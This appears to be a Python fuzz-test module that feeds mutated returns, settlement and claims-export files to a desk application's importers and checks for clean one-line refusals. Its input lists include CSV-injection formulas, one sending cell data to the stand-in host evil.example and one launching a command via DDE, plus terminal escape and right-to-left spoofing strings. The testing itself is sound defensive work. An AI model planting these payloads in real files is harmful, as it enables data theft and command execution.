"""The importers fuzzed with mutated real-shaped reports (issue 14, "Done when").

Every sample in tests/samples (copies of ../shared/samples) and a claims export made from them is
mutated: bytes flipped, lines cut, dropped or doubled, columns added, removed or swapped, fields
made huge, re-encoded (latin-1, UTF-16, byte-order marks), NULs, CR-only and mixed line ends,
formulas, huge numbers and odd dates in any cell, or a JSON leaf replaced. Each input either
imports, or is refused with a one-line :class:`ReportError` that names the file and, where the
fault is in a cell, its line, column and value; never any other exception. A refused file changes
nothing: the database dump before and after is the same. After an import the desk still reads,
exports and re-imports what it holds.

``make test`` runs a bounded, reproducible set of examples; ``SAFET_FUZZ=N`` (N >= 1) runs the
"thorough" profile of tests/conftest.py (1,000 x N random examples per test).
"""

from __future__ import annotations

import io
import json
import sqlite3
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import currently_in_test_context, given, note
from hypothesis import strategies as st

from safet_tui.reports import ReportError, run_import
from safet_tui.service.desk import Desk

SAMPLES = Path(__file__).resolve().parent / "samples"
RETURNS = ("returns", SAMPLES / "returns-report-us.tsv")
RETURNS_IN = ("returns", SAMPLES / "returns-report-in.tsv")
SETTLEMENT = ("settlement", SAMPLES / "settlement-v2-us.tsv")

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1+1", "@SUM(A1:A9)", "\t=1+2",
            "=cmd|' /C calc'!A0", "\r=1"]
NUMBERS = ["9" * 40, "9" * 19 + ".00", "-" + "9" * 25 + ".99", "1e308", "1E5", "NaN", "Infinity", "-0.00",
           "0x10", "1,2,3.45", "12.345", "1.2.3", "\u0661\u0662\u0663", "12,50", "$12.00", "₹1,23,456.00",
           "(12.00)", "--1", "+-1", "999999999999.99", "-999999999999.99", "0.001", "²", "１２.００"]
DATES = ["0000-00-00", "9999-12-31", "1999-12-31", "2100-01-01", "2026-02-30", "2026-13-01",
         "2026-10-02T25:61:00", "2026-10-02T14:22:05+99:99", "2026-10-02T14:22:05+23:59", "31/12/2026",
         "Oct 32, 2026", "32-Oct-2026", "2026-10-02 14:22:05 XYZ", "2026-10-02T14:22:05.123456789Z",
         "1970-01-01T00:00:00Z", "99999-01-01", "2026-W40-1", "2026-275", "2026-10-02 7:00 PM",
         "2026-10-02T14:22:05-00:00", "2099-12-31T23:59:59-23:59", "2000-01-01T00:00:00+14:00", "Sept 2, 2026",
         "2026-10-02 24:00", "2026-10-02T14:22:05+05", "02.10.2026", "1e9", "²⁰²⁶-10-02"]
CLAIM_IDS = ["0", "1" * 20, "-3417789012", "３４１７７８９０１２", "3417789012.0", " 3417789012 ", "34177890١٢",
             "00000000000000"]
#: the columns the importers read (returns report, settlement report), as keys
KEY_COLUMNS = {
    "order id", "order item id", "merchant sku", "asin", "item name", "return reason", "safet claim id",
    "currency code", "refunded amount", "return delivery date", "return request date", "order amount",
    "return type", "resolution", "safet claim state", "safet action reason", "safet claim creation time",
    "safet claim reimbursement amount", "settlement id", "settlement start date", "settlement end date",
    "deposit date", "total amount", "currency", "transaction type", "adjustment id",
    "marketplace name", "posted date", "posted date time", "order item code", "sku", "amount type",
    "amount description", "amount",
}
ODD_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40)
HOSTILE_TEXT = st.sampled_from(["\x1b]0;pwned\x07", "\x00", "\u202egnp.exe", "\ufeff", "\u2028", "[b]markup[/b]",
                                "\x1b[2J", "a\x7fb", "caf\u00e9"])
CELL = st.one_of(st.sampled_from(FORMULAS), st.sampled_from(NUMBERS), st.sampled_from(DATES),
                 st.sampled_from(CLAIM_IDS), ODD_TEXT, HOSTILE_TEXT, st.just(""), st.just(" "),
                 st.integers(1, 200_000).map(lambda n: "A" * n))


def dump(db: Path) -> list[str]:
    """Everything in the database file, as SQL (what a refused file must leave as it was)."""
    con = sqlite3.connect(str(db))
    try:
        return list(con.iterdump())
    finally:
        con.close()


# -- mutations of a tab-separated report ------------------------------------------------------------

def _cells(text: str) -> list[list[str]]:
    return [line.split("\t") for line in text.replace("\r\n", "\n").split("\n") if line]


@st.composite
def mutated_tsv(draw, sample: Path) -> bytes:
    rows = _cells(sample.read_bytes().decode("utf-8-sig"))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["cell", "key cell", "key cell", "key cell", "extra column", "missing column", "swap columns",
                                   "swap header", "drop line", "double line", "truncate line", "huge line"]))
        r = draw(st.integers(0, len(rows) - 1))
        row = rows[r]
        if op == "cell":
            c = draw(st.integers(0, len(row) - 1))
            row[c] = draw(CELL)
        elif op == "key cell":  # a column the importer reads, in a data row
            names = [h for h in rows[0] if h.strip().lower().replace("-", " ") in KEY_COLUMNS]
            if names and r > 0:
                c = rows[0].index(draw(st.sampled_from(names)))
                row.extend([""] * (c + 1 - len(row)))
                row[c] = draw(st.one_of(CELL, st.sampled_from([cell for other in rows[1:] for cell in other])))
        elif op == "extra column":
            row.insert(draw(st.integers(0, len(row))), draw(CELL))
        elif op == "missing column" and len(row) > 1:
            del row[draw(st.integers(0, len(row) - 1))]
        elif op in ("swap columns", "swap header"):
            target = rows[0] if op == "swap header" else row
            i, j = draw(st.integers(0, len(target) - 1)), draw(st.integers(0, len(target) - 1))
            target[i], target[j] = target[j], target[i]
        elif op == "drop line" and len(rows) > 1:
            del rows[r]
        elif op == "double line":
            rows.insert(r, list(row))
        elif op == "truncate line":
            line = "\t".join(row)
            rows[r] = line[: draw(st.integers(0, len(line)))].split("\t")
        elif op == "huge line":
            rows[r] = row * draw(st.integers(2, 50))
    end = draw(st.sampled_from(["\r\n", "\n", "\r", "mixed"]))
    lines = ["\t".join(r) for r in rows]
    if end == "mixed":
        text = "".join(line + draw(st.sampled_from(["\r\n", "\n", "\r", "\n\n"])) for line in lines)
    else:
        text = end.join(lines) + draw(st.sampled_from([end, ""]))
    return encoded(draw, text)


def encoded(draw, text: str) -> bytes:
    how = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8-sig", "latin-1", "utf-16", "utf-16-be",
                                "cp1252", "double bom"]))
    if how == "double bom":
        data = b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode("utf-8", "surrogatepass")
    else:
        data = text.encode(how, "replace") if how != "utf-8" else text.encode("utf-8", "surrogatepass")
    for _ in range(draw(st.integers(0, 2))):
        op = draw(st.sampled_from(["flip", "nul", "truncate", "insert"]))
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        if op == "flip":
            data = data[:at] + bytes([data[at] ^ draw(st.integers(1, 255))]) + data[at + 1:]
        elif op == "nul":
            data = data[:at] + b"\x00" + data[at:]
        elif op == "truncate":
            data = data[:at]
        else:
            data = data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]
    return data


# -- mutations of a claims export (JSON) -----------------------------------------------------------

def _leaves(doc, path=()):
    if isinstance(doc, dict):
        for k, v in doc.items():
            yield path + (k,), v
            yield from _leaves(v, path + (k,))
    elif isinstance(doc, list):
        for i, v in enumerate(doc):
            yield path + (i,), v
            yield from _leaves(v, path + (i,))


JSON_VALUE = st.one_of(
    CELL, st.integers(-(2**70), 2**70), st.floats(allow_nan=False), st.none(), st.booleans(),
    st.just([]), st.just({}), st.just(1e308), st.just(-0.0), st.just(["x"]), st.just({"": None}),
)


@st.composite
def mutated_json(draw, text: str) -> bytes:
    doc = json.loads(text)
    for _ in range(draw(st.integers(1, 3))):
        paths = [p for p, _ in _leaves(doc)]
        path = draw(st.sampled_from(paths))
        parent = doc
        for key in path[:-1]:
            parent = parent[key]
        op = draw(st.sampled_from(["set", "set", "set", "delete", "duplicate"]))
        if op == "set":
            parent[path[-1]] = draw(JSON_VALUE)
        elif op == "delete":
            del parent[path[-1]]
        elif isinstance(parent, list):
            parent.append(json.loads(json.dumps(parent[path[-1]])))
    out = json.dumps(doc, ensure_ascii=draw(st.booleans()), indent=draw(st.sampled_from([None, 2])),
                     allow_nan=True)
    if draw(st.booleans()):
        return out.encode("utf-8", "surrogatepass")
    return encoded(draw, out)


# -- the property ---------------------------------------------------------------------------------

class Bench:
    """One desk per test, shared by its examples (a file that imports changes it for the next)."""

    def __init__(self, clock) -> None:
        self.folder = Path(tempfile.mkdtemp(prefix="safet-fuzz-"))
        self.db = self.folder / "fuzz.db"
        self.desk = Desk(str(self.db), clock=clock, user="fuzz")
        self.seen: dict[str, int] = {}

    def close(self) -> None:
        import shutil

        self.desk.close()
        shutil.rmtree(self.folder, ignore_errors=True)


@pytest.fixture
def bench(clock):
    b = Bench(clock)
    yield b
    b.close()


def say(text: str) -> None:
    if currently_in_test_context():
        note(text)


def check_one(bench: Bench, kind: str, data: bytes, name: str = "report.tsv") -> None:
    path = bench.folder / name
    path.write_bytes(data)
    before = dump(bench.db)
    try:
        summary = run_import(bench.desk, kind, path)
    except ReportError as exc:
        text = str(exc)
        say(f"refused: {text}")
        bench.seen["refused"] = bench.seen.get("refused", 0) + 1
        assert "\n" not in text and "\r" not in text, "a refusal is one line"
        assert not any(ch in text for ch in "\x00\x1b\x07"), "a refusal shows no raw control character"
        assert exc.file == name and text.startswith(name), "a refusal names the file"
        if exc.line is not None:
            assert f"line {exc.line}" in text
        if exc.column is not None and exc.path is None:
            assert f"column {exc.column!r}" in text
        if exc.value is not None:
            assert repr(exc.value if len(exc.value) <= 80 else exc.value[:77] + "...") in text
        if exc.column is not None and kind != "claims":
            assert exc.line is not None, "a cell's refusal names its line"
        assert dump(bench.db) == before, "a refused file changes nothing"
        return
    say(f"imported: {summary.lines()}")
    bench.seen["imported"] = bench.seen.get("imported", 0) + 1
    still_works(bench)


def still_works(bench: Bench) -> None:
    """What landed is valid data: the desk reads it, exports it, and takes its own export back."""
    from safet_tui.export.claims import export_claims

    desk = bench.desk
    desk.counts()
    desk.analytics("all")
    out = io.StringIO(newline="")
    export_claims(desk, out, fmt="csv")
    out = io.StringIO(newline="")
    export_claims(desk, out, fmt="json", with_messages=True)
    again = bench.folder / "again.json"
    again.write_text(out.getvalue(), encoding="utf-8")
    before = dump(bench.db)
    summary = run_import(desk, "claims", again)
    assert not summary.changed and dump(bench.db) == before, "the desk's own export imports back unchanged"


def tsv_property(kind: str, sample: Path) -> Callable:
    @given(data=mutated_tsv(sample))
    def run(bench, data):
        check_one(bench, kind, data)
        check_one(bench, "auto", data, "auto.tsv")

    return run


test_fuzz_returns_report_us = tsv_property(*RETURNS)
test_fuzz_returns_report_in = tsv_property(*RETURNS_IN)
test_fuzz_settlement_report = tsv_property(*SETTLEMENT)


def make_claims_export(folder: Path) -> str:
    """A claims export with threads, refunds and payouts, made from the samples."""
    from conftest import NOW

    from safet_tui.domain.clock import FixedClock
    from safet_tui.export.claims import export_claims

    desk = Desk(str(folder / "source.db"), clock=FixedClock(NOW), user="fuzz")
    try:
        for kind, sample in (RETURNS, SETTLEMENT, RETURNS_IN):
            run_import(desk, kind, sample)
        out = io.StringIO(newline="")
        export_claims(desk, out, fmt="json", with_messages=True)
    finally:
        desk.close()
    return out.getvalue()


@pytest.fixture(scope="module")
def claims_export(tmp_path_factory) -> str:
    return make_claims_export(tmp_path_factory.mktemp("export"))


@given(data=st.data())
def test_fuzz_claims_export(bench, claims_export, data):
    check_one(bench, "claims", data.draw(mutated_json(claims_export)), "claims.json")


def test_the_samples_import_as_they_are(bench):
    """The unmutated inputs import (the fuzzing starts from files that work)."""
    for kind, sample in (RETURNS, SETTLEMENT, RETURNS_IN):
        check_one(bench, kind, sample.read_bytes())
    assert bench.seen == {"imported": 3}

